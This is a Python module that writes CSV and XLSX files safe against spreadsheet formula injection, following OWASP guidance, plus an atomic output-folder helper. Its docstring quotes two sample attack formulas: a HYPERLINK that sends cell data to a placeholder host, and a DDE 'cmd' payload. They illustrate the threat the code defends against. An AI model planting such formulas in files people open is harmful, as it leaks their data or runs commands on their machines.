"""CSV and XLSX files that are safe to open in a spreadsheet.

Spreadsheet programs read a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula, so a value typed by anyone upstream (``=HYPERLINK("http://x?"&A1,"click")``,
``=cmd|'/C calc'!A0``) would run on the machine of whoever opens an output. Every
CSV and XLSX file the package writes goes through :func:`write_csv` or
:func:`write_xlsx`, which neutralise such text.

The rule follows OWASP, "CSV Injection"
(https://owasp.org/www-community/attacks/CSV_Injection): no cell may begin with
``=``, ``+``, ``-``, ``@``, tab (0x09), carriage return (0x0D) or line feed (0x0A);
a cell that would is prefixed with a single quote, which makes Excel, LibreOffice
Calc and Google Sheets read it as text. OWASP ASVS 5.0 requirement 1.2.10 adds the
null character (0x00), also included. Beyond what OWASP lists, and as defence in
depth, a trigger after leading whitespace (some importers trim leading spaces, e.g.
LibreOffice's "Trim spaces" option) and the full-width forms ``＝ ＋ － ＠``
(which East Asian input methods turn into formulas) also get the quote. A plain
number (``-5``, ``+3.25``, ``-1,234.50``, ``1e-3``) is left alone: a spreadsheet
reads it as a number, not a formula.

OWASP also warns that a field separator or quote inside a value could start a new
cell; the writers here quote fields per RFC 4180 (pandas ``to_csv``) and write XLSX
cells one by one, so a value never spills into another cell.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import hashlib
import math
import numbers
import re
import shutil
import tempfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

__all__ = ["neutralise_formulas", "neutralise_text", "output_dir", "write_csv", "write_xlsx"]

_TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20"  # and their full-width forms
_FORMULA_START = re.compile(rf"[{re.escape(_TRIGGERS)}\t\r\n\x00]|\s+[{re.escape(_TRIGGERS)}\x00]")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+|\d{1,3}(?:,\d{3})+)?(?:\.\d+)?(?:[eE][+-]?\d+)?")


def neutralise_text(value: str) -> str:
    """Prefix text that a spreadsheet would read as a formula with ``'``.

    Parameters
    ----------
    value : str

    Returns
    -------
    str
        ``"'" + value`` if ``value`` starts with ``=``, ``+``, ``-``, ``@``, tab,
        carriage return, line feed, NUL or a full-width ``＝ ＋ － ＠``, or with
        whitespace followed by one of these, and is not a plain number; otherwise
        ``value`` unchanged.

    Examples
    --------
    >>> neutralise_text('=HYPERLINK("http://x","click")')
    '\\'=HYPERLINK("http://x","click")'
    >>> neutralise_text("@SUM(A1)"), neutralise_text("  -cmd")
    ("'@SUM(A1)", "'  -cmd")
    >>> neutralise_text("-1,234.50"), neutralise_text("+3.25"), neutralise_text("Walk-in")
    ('-1,234.50', '+3.25', 'Walk-in')
    """
    if not value or not _FORMULA_START.match(value):
        return value
    stripped = value.strip()
    if any(c.isdigit() for c in stripped) and _PLAIN_NUMBER.fullmatch(stripped):
        return value
    return "'" + value


def _map_uniques(uniques: np.ndarray, fn: Callable[[str], str]) -> np.ndarray | None:
    """``fn`` applied to the strings of an object array of distinct values, or None if
    it changed nothing."""
    out = None
    for i, v in enumerate(uniques):
        if isinstance(v, str):
            n = fn(v)
            if n != v:
                if out is None:
                    out = np.array(uniques, dtype=object)
                out[i] = n
    return out


def _map_text(s: pd.Series, fn: Callable[[str], str]) -> pd.Series:
    """``fn`` applied to each distinct text value of a column; other values untouched."""
    dtype = s.dtype
    if isinstance(dtype, pd.CategoricalDtype):
        cats = dtype.categories
        if not (
            pd.api.types.is_object_dtype(cats.dtype) or pd.api.types.is_string_dtype(cats.dtype)
        ):
            return s
        new = _map_uniques(np.asarray(cats, dtype=object), fn)
        if new is None:
            return s
        if len(set(new.tolist())) == len(new):
            return s.cat.rename_categories(dict(zip(cats, new, strict=True)))
        return _map_text(s.astype(object), fn).astype("category")
    if not (pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype)):
        return s
    codes, uniques = pd.factorize(s, use_na_sentinel=True)
    new = _map_uniques(np.asarray(uniques, dtype=object), fn)
    if new is None:
        return s
    missing = codes < 0
    out = pd.Series(new.take(codes), index=s.index, name=s.name, dtype=object)
    out[missing] = s[missing]  # the original missing markers
    return out.astype(dtype)


def _map_frame(df: pd.DataFrame, fn: Callable[[str], str]) -> pd.DataFrame:
    out = df.copy()
    for j in range(out.shape[1]):
        col = out.iloc[:, j]
        new = _map_text(col, fn)
        if new is not col:
            out.isetitem(j, new)
    return out


def _map_index(index: pd.Index, fn: Callable[[str], str]) -> pd.Index:
    def label(v: Any) -> Any:
        return fn(v) if isinstance(v, str) else v

    if isinstance(index, pd.MultiIndex):
        return pd.MultiIndex.from_tuples(
            [tuple(label(v) for v in t) for t in index], names=[label(n) for n in index.names]
        )
    values = _map_text(pd.Series(index, dtype=index.dtype), fn)
    return pd.Index(values, dtype=index.dtype, name=label(index.name))


def neutralise_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` with every text cell passed through :func:`neutralise_text`.

    Parameters
    ----------
    df : pandas.DataFrame

    Returns
    -------
    pandas.DataFrame
        Same shape, index, column labels and dtypes. Text in object, ``str``/string
        and categorical (text categories) columns is neutralised, each distinct value
        once; numbers, dates, booleans and missing values are untouched. Column labels
        and the index are left alone (:func:`write_csv` and :func:`write_xlsx`
        neutralise the header they write).

    Examples
    --------
    >>> df = pd.DataFrame({"title": ["=1+1", "Walk-in", None], "amount": [-5.0, 1.0, 2.0]})
    >>> neutralise_formulas(df)["title"].tolist()
    ["'=1+1", 'Walk-in', nan]
    """
    return _map_frame(df, neutralise_text)


def _csv_text(value: str) -> str:
    # Python's csv writer (3.11) quotes a field holding the line terminator "\n" but not
    # a bare "\r", which a reader takes for the end of the row.
    return neutralise_text(value).replace("\r\n", "\n").replace("\r", "\n")


def write_csv(df: pd.DataFrame, path: str | Path, *, index: bool = False) -> Path:
    """Write ``df`` as UTF-8 CSV with ``\\n`` line ends, formulas neutralised.

    Parameters
    ----------
    df : pandas.DataFrame
    path : str or pathlib.Path
    index : bool, default False
        Write the index as the first column(s) (neutralised too).

    Returns
    -------
    pathlib.Path
        ``path``.

    Notes
    -----
    Text cells and header labels go through :func:`neutralise_text`; fields are
    quoted as RFC 4180 requires; missing values are empty fields. Line breaks inside
    a text cell are written as ``\\n`` (a bare carriage return would not be quoted and
    would end the row in a reader).
    """
    path = Path(path)
    out = _map_frame(df, _csv_text)
    out.columns = _map_index(out.columns, _csv_text)
    if index:
        out.index = _map_index(out.index, _csv_text)
    out.to_csv(path, index=index, encoding="utf-8", lineterminator="\n")
    return path


# --------------------------------------------------------------------------- XLSX

_XLSX_MAX_ROWS = 1_048_576
_XLSX_MAX_COLS = 16_384
_SHEET_BAD = re.compile(r"[\[\]:*?/\\\x00-\x1f]")
_MIN_WIDTH, _MAX_WIDTH = 6, 60
_WIDTH_SAMPLE = 10_000


def _utf16_len(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


def _sheet_names(names: list[Any]) -> list[str]:
    """Valid, distinct Excel sheet names (31 UTF-16 units, none of ``[]:*?/\\``)."""
    out: list[str] = []
    seen: set[str] = set()
    for raw in names:
        base = _SHEET_BAD.sub("_", str(raw)).strip().strip("'") or "Sheet"
        if base.lower() == "history":  # reserved by Excel
            base += "_"
        name, k = base, 1
        while True:
            suffix = "" if k == 1 else f" ({k})"
            name = base
            while _utf16_len(name + suffix) > 31:
                name = name[:-1]
            name = name.rstrip().rstrip("'") + suffix
            if name.lower() not in seen:
                break
            k += 1
        seen.add(name.lower())
        out.append(name)
    return out


def _width(texts: list[str]) -> float:
    longest = max((len(t) for t in texts), default=0)
    return float(min(max(longest + 2, _MIN_WIDTH), _MAX_WIDTH))


class _Formats:
    def __init__(self, workbook: Any) -> None:
        self.header = workbook.add_format({"bold": True})
        self.date = workbook.add_format({"num_format": "yyyy-mm-dd"})
        self.datetime = workbook.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"})


def _write_value(
    ws: Any, r: int, c: int, v: Any, fmt: _Formats, date_fmt: Any, cell_format: Any = None
) -> None:
    """Write one cell of any type: empty when missing, text always as a string.

    ``date_fmt`` is the format of the column's dates, or None to choose per cell;
    ``cell_format`` (optional) is the format of every other cell.
    """
    if v is None or v is pd.NA or v is pd.NaT:
        return
    if isinstance(v, str):
        ws.write_string(r, c, neutralise_text(v), cell_format)
    elif isinstance(v, np.timedelta64 | dt.timedelta):  # (numpy's is an integer type)
        if not pd.isna(v):
            ws.write_string(r, c, neutralise_text(str(pd.Timedelta(v))), cell_format)
    elif isinstance(v, bool | np.bool_):
        ws.write_boolean(r, c, bool(v), cell_format)
    elif isinstance(v, dt.datetime | dt.date | np.datetime64):
        _write_date(ws, r, c, v, fmt, date_fmt)
    elif isinstance(v, numbers.Number) and not isinstance(v, complex | np.complexfloating):
        _write_number(ws, r, c, v, cell_format)
    else:
        ws.write_string(r, c, neutralise_text(str(v)), cell_format)


def _write_number(ws: Any, r: int, c: int, v: Any, cell_format: Any = None) -> None:
    if isinstance(v, numbers.Integral) and abs(int(v)) >= 10**15:
        ws.write_string(r, c, str(int(v)), cell_format)  # more digits than Excel keeps
        return
    x = float(v)
    if math.isnan(x):
        return
    if math.isinf(x):
        ws.write_string(r, c, neutralise_text(str(x)), cell_format)
        return
    ws.write_number(r, c, x, cell_format)


def _write_date(ws: Any, r: int, c: int, v: Any, fmt: _Formats, date_fmt: Any) -> None:
    try:
        stamp = pd.Timestamp(v)
    except (ValueError, OverflowError):  # outside the range pandas can represent
        ws.write_string(r, c, str(v))
        return
    if pd.isna(stamp):
        return
    if stamp.tzinfo is not None:
        stamp = stamp.tz_localize(None)
    if stamp.year < 1900:  # before Excel's first date
        ws.write_string(r, c, stamp.isoformat())
        return
    if date_fmt is None:
        is_date_only = isinstance(v, dt.date) and not isinstance(v, dt.datetime)
        date_fmt = fmt.date if is_date_only or stamp == stamp.normalize() else fmt.datetime
    ws.write_datetime(r, c, stamp.to_pydatetime(), date_fmt)


def _column_values(s: pd.Series, fmt: _Formats) -> tuple[list[Any], list[str], Any]:
    """Python values of a column (missing as None), sample texts for its width, and
    the format of its dates (None: chosen per cell)."""
    if isinstance(s.dtype, pd.CategoricalDtype):
        s = s.astype(object)
    if pd.api.types.is_datetime64_any_dtype(s.dtype):
        if getattr(s.dtype, "tz", None) is not None:
            s = s.dt.tz_localize(None)
        present = s.dropna()
        midnight = bool((present == present.dt.normalize()).all())
        values = [None if pd.isna(v) else v for v in s.tolist()]
        sample = ["0000-00-00" if midnight else "0000-00-00 00:00:00"] if len(present) else []
        return values, sample, fmt.date if midnight else fmt.datetime
    values = s.astype(object).where(s.notna(), None).tolist()
    sample = [str(v) for v in values[:_WIDTH_SAMPLE] if v is not None]
    return values, sample, None


def write_xlsx(sheets: Mapping[str, pd.DataFrame], path: str | Path) -> Path:
    """Write one worksheet per DataFrame, with typed cells and formulas neutralised.

    Parameters
    ----------
    sheets : mapping of str to pandas.DataFrame
        Sheet name -> table. Names are made valid for Excel: characters
        ``[]:*?/\\`` become ``_``, leading and trailing apostrophes are dropped,
        names are cut to 31 characters and made unique (``Name (2)``).
    path : str or pathlib.Path

    Returns
    -------
    pathlib.Path
        ``path``.

    Raises
    ------
    ValueError
        If a table has more rows or columns than a worksheet holds (1,048,576 rows
        including the header, 16,384 columns): write it with :func:`write_csv`.

    Notes
    -----
    The header row is bold and frozen; column widths follow the longest header or
    value (of the first 10,000 rows), between 6 and 60 characters. Numbers are
    written as numbers (integers of 16 or more digits as text, since Excel keeps
    15), dates and datetimes as dates with a ``yyyy-mm-dd`` (``hh:mm:ss``) format
    (dates before 1900 as ISO text), booleans as booleans, missing values as empty
    cells, and every text cell with ``write_string`` - never as a formula - after
    :func:`neutralise_text`. Text longer than Excel's 32,767 characters is cut by
    xlsxwriter.
    """
    import xlsxwriter

    path = Path(path)
    for name, df in sheets.items():
        if len(df) + 1 > _XLSX_MAX_ROWS or df.shape[1] > _XLSX_MAX_COLS:
            raise ValueError(
                f"Table {name!r} has {len(df):,} rows and {df.shape[1]:,} columns; an xlsx "
                f"worksheet holds at most {_XLSX_MAX_ROWS - 1:,} rows and "
                f"{_XLSX_MAX_COLS:,} columns. Write it as CSV instead."
            )
    options = {
        "constant_memory": True,
        "strings_to_numbers": False,
        "strings_to_formulas": False,
        "strings_to_urls": False,
    }
    workbook = xlsxwriter.Workbook(str(path), options)
    try:
        fmt = _Formats(workbook)
        for name, df in zip(_sheet_names(list(sheets)), sheets.values(), strict=True):
            ws = workbook.add_worksheet(name)
            ws.freeze_panes(1, 0)
            columns = [_column_values(df.iloc[:, j], fmt) for j in range(df.shape[1])]
            headers = [neutralise_text(str(c)) for c in df.columns]
            for j, (header, (_, sample, _)) in enumerate(zip(headers, columns, strict=True)):
                ws.set_column(j, j, _width([header, *sample]))
                ws.write_string(0, j, header, fmt.header)
            for i in range(len(df)):
                for j, (values, _, date_fmt) in enumerate(columns):
                    _write_value(ws, i + 1, j, values[i], fmt, date_fmt)
    finally:
        workbook.close()
    return path


@contextlib.contextmanager
def output_dir(out_dir: str | Path, *, force: bool = False) -> Iterator[Path]:
    """Write a folder of outputs atomically: all of it appears, or none of it.

    The body writes into a temporary folder beside ``out_dir``; on success the
    folder is moved into place (replacing an existing one when ``force``), on
    any error it is removed, so a failed run leaves no half-written output.

    Parameters
    ----------
    out_dir
        Destination folder.
    force
        Replace ``out_dir`` if it exists.

    Yields
    ------
    pathlib.Path
        The temporary folder to write into.

    Raises
    ------
    FileExistsError
        If ``out_dir`` exists and ``force`` is false.
    OutputError
        If the folder cannot be created or written.
    """
    from noream_eval.errors import OutputError

    out = Path(out_dir)
    if out.exists() and not force:
        raise FileExistsError(
            f"{out} already exists; choose another --out folder or pass --force to replace it."
        )
    try:
        out.parent.mkdir(parents=True, exist_ok=True)
        tmp = Path(tempfile.mkdtemp(prefix=f".{out.name}.", dir=out.parent))
    except OSError as exc:
        raise OutputError(
            f"cannot create the output folder {out} ({exc.strerror}); choose another --out."
        ) from None
    try:
        yield tmp
        if out.exists():
            trash = Path(tempfile.mkdtemp(prefix=f".{out.name}.old.", dir=out.parent))
            out.rename(trash / out.name)
            tmp.rename(out)
            shutil.rmtree(trash, ignore_errors=True)
        else:
            tmp.rename(out)
    except OSError as exc:
        shutil.rmtree(tmp, ignore_errors=True)
        raise OutputError(
            f"cannot write the outputs to {out} ({exc.strerror}); check the folder's "
            "permissions and the free disk space."
        ) from None
    except BaseException:
        shutil.rmtree(tmp, ignore_errors=True)
        raise


def sha256_file(path: str | Path) -> str:
    """The SHA-256 of a file's bytes, read in 1 MiB chunks (hex digest).

    Examples
    --------
    >>> import tempfile
    >>> with tempfile.TemporaryDirectory() as d:
    ...     p = Path(d) / "x.txt"
    ...     _ = p.write_bytes(b"abc")
    ...     sha256_file(p)[:16]
    'ba7816bf8f01cfea'
    """
    h = hashlib.sha256()
    with Path(path).open("rb") as fh:
        for chunk in iter(lambda: fh.read(1 << 20), b""):
            h.update(chunk)
    return h.hexdigest()
